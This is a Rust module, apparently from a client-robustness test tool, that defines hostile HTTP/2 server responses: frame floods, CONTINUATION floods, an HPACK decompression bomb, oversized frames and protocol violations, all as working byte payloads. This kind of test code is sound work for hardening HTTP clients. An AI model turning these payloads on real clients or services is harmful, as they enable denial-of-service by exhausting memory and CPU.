//! Frames over HTTP/2 that no client asked for, or too many of them.

use super::AttackEnd::Silence;
use super::AttackProtocol::Http2;
use super::http1::noise;
use super::{Attack, AttackProtocol};

pub(super) const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
pub(super) const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
pub(super) const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(super) const END_HEADERS: u8 = 4;
/// `:status: 200`, indexed.
pub(super) const STATUS_200: &[u8] = b"\x88";

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}

/// A header field that is not indexed.
pub(super) fn field(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0];
    for text in [name, value] {
        length(text.len(), &mut out);
        out.extend_from_slice(text.as_bytes());
    }
    out
}

fn length(mut length: usize, out: &mut Vec<u8>) {
    const PREFIX_MAX: usize = 127;
    if length < PREFIX_MAX {
        out.push(u8::try_from(length).unwrap_or(0));
        return;
    }
    length -= PREFIX_MAX;
    out.push(127);
    while length >= 128 {
        out.push(u8::try_from(length % 128 + 128).unwrap_or(0));
        length /= 128;
    }
    out.push(u8::try_from(length).unwrap_or(0));
}

fn h2(name: &'static str, first: impl Into<Vec<u8>>) -> Attack {
    let protocol: AttackProtocol = Http2;
    let settings = frame(SETTINGS, 0, 0, b"");
    Attack::answer(name, protocol, [settings, first.into()].concat()).ending(Silence)
}

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = floods();
    all.extend(heads());
    all.extend(wrongs());
    all
}

fn floods() -> Vec<Attack> {
    let head = frame(HEADERS, END_HEADERS, 1, STATUS_200);
    let hints = frame(HEADERS, END_HEADERS, 1, &field(":status", "103"));
    let none = Vec::new;
    vec![
        h2("h2-settings", none()).flooding(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")),
        h2("h2-ping", none()).flooding(frame(PING, 0, 0, b"12345678")),
        h2("h2-pong", none()).flooding(frame(PING, 1, 0, b"12345678")),
        h2("h2-reset", none()).flooding(frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes())),
        h2("h2-hints", none()).flooding(&hints),
        h2("h2-priority", none()).flooding(frame(PRIORITY, 0, 3, b"\0\0\0\0\x01")),
        h2("h2-unknown", none()).flooding(frame(0xbb, 0, 0, &[b'z'; 16_000])),
        h2("h2-unknown-empty", none()).flooding(frame(0xbb, 0, 0, b"")),
        h2("h2-window", none()).flooding(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        h2("h2-empty-data", head.clone()).flooding(frame(DATA, 0, 1, b"")),
        h2("h2-data", head.clone()).flooding(frame(DATA, 0, 1, &[b'a'; 16_000])),
        h2("h2-data-of-a-byte", head).flooding(frame(DATA, 0, 1, b"a")),
        h2("h2-goaway", none()).flooding(frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xff\0\0\0\0")),
    ]
}

fn heads() -> Vec<Attack> {
    let open = frame(HEADERS, 0, 1, STATUS_200);
    let entry = [&b"\x40\x03x-a\x7f\x81\x1e"[..], &[b'b'; 3968]].concat();
    let bomb = [STATUS_200, &entry, &[0xbe; 12_000]].concat();
    let list: Vec<u8> = (0..200)
        .flat_map(|number| {
            frame(
                CONTINUATION,
                0,
                1,
                &field(&format!("x-{number}"), &"b".repeat(15_000)),
            )
        })
        .collect();
    vec![
        h2("h2-continuation", open.clone()).flooding(frame(
            CONTINUATION,
            0,
            1,
            &field("x-a", &"b".repeat(100)),
        )),
        h2("h2-continuation-empty", open.clone()).flooding(frame(CONTINUATION, 0, 1, b"")),
        h2("h2-hpack-bomb", frame(HEADERS, END_HEADERS, 1, &bomb)),
        h2(
            "h2-head-list",
            [open, list, frame(CONTINUATION, END_HEADERS, 1, b"")].concat(),
        ),
    ]
}

fn wrongs() -> Vec<Attack> {
    let head = frame(HEADERS, END_HEADERS, 1, STATUS_200);
    let promise = [&2_u32.to_be_bytes()[..], STATUS_200].concat();
    let zero = frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0\0\x03\0\0\0\0");
    vec![
        h2("h2-push", frame(PUSH_PROMISE, END_HEADERS, 1, &promise)),
        h2(
            "h2-window-over",
            frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()).repeat(3),
        ),
        h2("h2-zero-streams", zero),
        h2("h2-three-heads", head.repeat(3)),
        h2(
            "h2-frame-16m",
            [&b"\xff\xff\xff\0\0\0\0\0\x01"[..], &[b'a'; 100_000]].concat(),
        ),
        h2("h2-garbage", noise(100_000)),
        h2("h2-silence", Vec::new()),
    ]
}
